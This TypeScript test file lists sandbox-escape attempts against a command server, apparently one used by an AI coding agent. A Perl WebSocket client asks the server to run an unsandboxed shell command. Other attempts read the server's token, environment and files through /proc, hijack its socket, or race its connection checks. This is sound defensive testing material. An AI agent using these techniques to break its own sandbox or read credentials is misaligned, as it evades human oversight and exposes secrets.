import { type Attempt, attemptsOf, perl, sh } from "../attempt.ts";

/** A client of the server: `talk` asks it to run a command that is not sandboxed. */
export const client = String.raw`
  sub frame { my $t = shift; my $n = length $t; chr(0x81) . ($n < 126 ? chr(0x80 | $n) : chr(0xfe) . pack("n", $n)) . "\0\0\0\0" . $t }
  sub upgrade { my $more = shift // ""; "GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n$more\r\n" }
  sub messages {
    frame('{"id":1,"method":"initialize","params":{"clientName":"escape"}}') . frame('{"method":"initialized"}') .
    frame('{"id":2,"method":"process/start","params":{"processId":"' . $id . '","argv":["/bin/sh","-c","echo escaped >> ' . $outside . '/canary"],"cwd":"file:///","env":{},"tty":false}}')
  }
  sub talk {
    my $s = shift; my $got = ""; syswrite($s, upgrade(@_)) or failed("write");
    while ($got !~ /\r\n\r\n/) { sysread($s, $got, 4096, length $got) or failed("upgrade") }
    $got =~ /^HTTP\/1.1 101/ or failed($got); syswrite($s, messages()) or failed("write");
    while ($got !~ /process\/closed|error/) { sysread($s, $got, 4096, length $got) or failed("closed") }
  }
  sub tcp { my $s; socket($s, PF_INET, SOCK_STREAM, 0) && connect($s, pack_sockaddr_in($ENV{SERVER_PORT}, inet_aton("127.0.0.1"))) or failed("connect"); $s }
  sub path { my $s; socket($s, PF_UNIX, SOCK_STREAM, 0) && connect($s, pack_sockaddr_un(shift)) or failed("connect"); $s }
`;
const asClient = (text: string) => perl(client + text);

const files = attemptsOf("the server", [
  ["asks the server over TCP", "change", asClient("talk(tcp())")],
  [
    "asks the server over TCP, with network access",
    "change",
    asClient("talk(tcp())"),
    { network: "enabled", onCodex: "escapes" },
  ],
  [
    "asks the server and leaves before it is answered",
    "change",
    // A server looks up who connects, and may come too late: so each stays a little longer, until one got through.
    asClient(String.raw`
      my ($before, $end, $stay) = (-s "$outside/canary", time + $ENV{RACE_SECONDS}, 0);
      while (time <= $end && -s "$outside/canary" == $before) {
        my $s = tcp(); syswrite($s, upgrade() . messages()); select(undef, undef, undef, $stay); close($s); $stay += 0.005
      }`),
    { network: "enabled", onCodex: "may escape" },
  ],
  [
    "asks the server from a child whose parents are gone",
    "change",
    asClient(
      "use POSIX (); my $s = tcp(); my $p = fork; if ($p) { waitpid($p, 0) } else { POSIX::setsid(); talk($s) }",
    ),
    { network: "enabled", onCodex: "escapes" },
  ],
  [
    "asks the server from the port of a client, at another address",
    "change",
    asClient(String.raw`
      my ($port) = map { /^\s*\d+: \w+:(\w+) \w+:(\w+) 01/ && hex($2) == $ENV{SERVER_PORT} ? hex($1) : () } split /\n/, slurp("/proc/net/tcp");
      my $s; socket($s, PF_INET, SOCK_STREAM, 0) && bind($s, pack_sockaddr_in($port, inet_aton("127.0.0.2"))) or failed("bind");
      connect($s, pack_sockaddr_in($ENV{SERVER_PORT}, inet_aton("127.0.0.1"))) or failed("connect"); talk($s)`),
    { network: "enabled", onCodex: "escapes" },
  ],
  [
    "asks the server over TCP with an IPv6 address",
    "change",
    asClient(
      'my $s; socket($s, PF_INET6, SOCK_STREAM, 0) && connect($s, pack_sockaddr_in6($ENV{SERVER_PORT}, inet_pton(AF_INET6, "::ffff:127.0.0.1"))) or failed("connect"); talk($s)',
    ),
    { network: "enabled", mayBeUnavailable: "the machine may have no IPv6", onCodex: "escapes" },
  ],
  [
    "asks the server with its token",
    "change",
    asClient('my $t = slurp($ENV{TOKEN_FILE}); chomp $t; talk(tcp(), "Authorization: Bearer $t\\r\\n")'),
    { network: "enabled", server: "token", onCodex: "escapes" },
  ],
  ["reads the token of the server", "secret", sh("cat $TOKEN_FILE"), { server: "token", onCodex: "escapes" }],
  [
    "reads the token of the server through a link",
    "secret",
    sh("ln -s $TOKEN_FILE $WORK/l && cat $WORK/l"),
    { server: "token", onCodex: "escapes" },
  ],
  [
    "asks the server over its socket",
    "change",
    asClient("talk(path($ENV{SERVER_SOCKET}))"),
    { server: "unix" },
  ],
  [
    "asks the server over its socket, with network access",
    "change",
    asClient("talk(path($ENV{SERVER_SOCKET}))"),
    { server: "unix", network: "enabled" },
  ],
  [
    "asks the server over its socket through a link",
    "change",
    asClient('symlink($ENV{SERVER_SOCKET}, "$work/l"); talk(path("$work/l"))'),
    { server: "unix", network: "enabled" },
  ],
  [
    "asks the server over its socket through /proc/self/root",
    "change",
    asClient('symlink("/proc/self/root$ENV{SERVER_SOCKET}", "$work/l"); talk(path("$work/l"))'),
    { server: "unix", network: "enabled" },
  ],
  [
    "asks the server over a hard link to its socket",
    "change",
    asClient('link($ENV{SERVER_SOCKET}, "$work/l") or failed("link"); talk(path("$work/l"))'),
    { server: "unix", network: "enabled" },
  ],
  [
    "takes the place of the server's socket",
    "claim",
    perl(String.raw`
      my $p = $ENV{SERVER_SOCKET}; rename($p, "$p.old") or failed("rename"); rename("$p.old", $p); escaped("moved")`),
    { server: "unix" },
  ],
  ["reads the environment of the server", "secret", sh("tr '\\0' '\\n' < /proc/$SERVER/environ")],
  ["reads a denied file through the root of the server", "secret", sh("cat /proc/$SERVER/root$SECRETS/file")],
  [
    "reads the descriptors of the server",
    "claim",
    sh('ls -l /proc/$SERVER/fd | grep -q socket && echo "ESC""APED"'),
  ],
  ["signals the server", "claim", perl('kill(0, $ENV{SERVER}) or failed("kill"); escaped("signal")')],
]);

export const serverAttempts: readonly Attempt[] = files;
